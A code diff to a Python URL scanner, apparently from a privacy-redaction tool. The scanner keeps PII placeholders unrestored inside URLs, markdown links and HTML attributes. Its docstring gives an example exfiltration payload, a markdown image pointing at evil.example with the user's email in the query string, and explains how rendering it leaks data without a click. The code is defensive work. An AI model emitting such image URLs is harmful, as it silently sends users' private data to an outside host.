@@ -5,11 +5,12 @@ model write `![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)`; restoring pu
 user's address into the URL, and a client that renders markdown fetched it, sending the
 value out without a click. A placeholder inside a URL therefore stays a placeholder.
 
-The scan is generous on purpose: a bare URL runs to the next whitespace, a markdown
+The scan is generous on purpose: a bare URL (a scheme, `www.`, `//`, `http:`, or a host
+such as `evil.com/` or `evil.com?` with none) runs to the next whitespace, a markdown
 destination to its unbalanced `)` (one in `<...>`, after `](` or a reference label, to its
 `>`), a quoted attribute to its closing quote, and one left open runs to the end of the
-text. A placeholder kept by mistake shows as
-`<EMAIL_ADDRESS_1>`; one restored by mistake is a leak.
+text. A placeholder kept by mistake shows as `<EMAIL_ADDRESS_1>` (prose such as
+`main.py?<EMAIL_ADDRESS_1>` pays for the host rule); one restored by mistake is a leak.
 
 `UrlScan` reads a text in pieces (a stream's released slices) and finds the spans it finds
 in the whole text: a URL still open carries over to the next piece, and an opener split
@@ -22,17 +23,20 @@ import re
 from dataclasses import dataclass
 
 _ATTRIBUTES = (
-    "xlink:href|formaction|background|longdesc|codebase|manifest|archive|srcset|poster|"
-    "action|lowsrc|dynsrc|href|data|cite|ping|icon|src"
+    "xlink:href|formaction|imagesrcset|background|longdesc|codebase|manifest|archive|srcset|"
+    "poster|action|lowsrc|dynsrc|href|data|cite|ping|icon|src"
 )
 """HTML attributes whose value the browser loads or sends to (an image, a form, a ping)."""
 
 _OPENER = re.compile(
     r"(?P<md>\]\(|(?<![\w-])url\()"  # a markdown destination, CSS url(
     r"|(?P<ref>(?<![^\n])[ ]{0,3}\[[^\]\n]{1,200}\]:)"  # a reference definition [1]: ...
-    rf"|(?P<attr>(?<![\w:-])(?:{_ATTRIBUTES})[ \t\r\n\f]{{0,8}}=)"
+    rf"|(?P<attr>(?<![\w:-])(?:{_ATTRIBUTES})(?=[ \t\r\n\f=]))"  # src = "...", any spaces
     r"|<(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}:)"  # an autolink <https://...>
-    r"|(?P<bare>[A-Za-z][A-Za-z0-9+.\-]{0,31}://|(?<![A-Za-z0-9])www\.|(?<![\w:/])//(?=\w))",
+    r"|(?P<bare>[A-Za-z][A-Za-z0-9+.\-]{0,31}://|(?<![A-Za-z0-9])www\.|(?<![\w:/])//(?=\w)"
+    r"|(?<![A-Za-z0-9+.\-])https?:(?=\S)"  # http:evil.example/ (browsers add the //)
+    # a host with no scheme, evil.com/?d=... (linkify renders it as a link)
+    r"|(?<![\w@-])(?:[\w-]{1,40}\.){1,4}[^\W\d_]{2,24}(?::\d{1,5})?[/?])",
     re.IGNORECASE,
 )
 _LONGEST_OPENER = 256
@@ -50,8 +54,10 @@ class _OpenUrl:
 
     kind: str  # md, ref, attr, auto, bare
     leading: bool = True
-    """ref and attr: still before the value (spaces, for ref one line break)."""
+    """Still before the value: spaces (md and ref: one line break; attr: its `=`)."""
     quote: str = ""
+    eq: bool = False
+    """attr: its `=` was seen (without one, the name was a word, not an attribute)."""
     depth: int = 0
     lines: int = 0
     escaped: bool = False
@@ -84,14 +90,15 @@ class UrlScan:
             if end is None:  # the whole piece is inside the URL
                 self._tail = buf[-1:]  # the character before the next piece
                 return [(0, len(text))] if text else []
-            out.append((0, end - base))
+            if _is_url(self._open):
+                out.append((0, end - base))
             self._open, pos = None, end
         while (found := _OPENER.search(buf, pos)) is not None:
             start, state = _opened(found)
             end = _close(buf, found.end(), state)
             if end is None:
                 self._open, end = state, len(buf)
-            if end > base:
+            if end > base and _is_url(state):
                 out.append((max(start, base) - base, end - base))
             if self._open is not None:
                 self._tail = buf[-1:]
@@ -112,6 +119,10 @@ def _opened(found: re.Match[str]) -> tuple[int, _OpenUrl]:
     return found.end(), _OpenUrl(kind)
 
 
+def _is_url(state: _OpenUrl) -> bool:
+    return state.kind != "attr" or state.eq
+
+
 def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
     """Where the URL open at `buf[i]` ends, or None when it runs past `buf` (`state` then
     holds how far it got)."""
@@ -119,7 +130,12 @@ def _close(buf: str, i: int, state: _OpenUrl) -> int | None:
         if i == len(buf):
             return None
         char = buf[i]
-        if state.kind in ("md", "ref") and char == "\n":
+        if state.kind == "attr" and not state.eq:
+            if char == "=":
+                state.eq = True
+            elif char not in _SPACE:
+                return i  # a word (`the src option`), not an attribute: no URL
+        elif state.kind in ("md", "ref") and char == "\n":
             if state.lines:
                 return i
             state.lines = 1
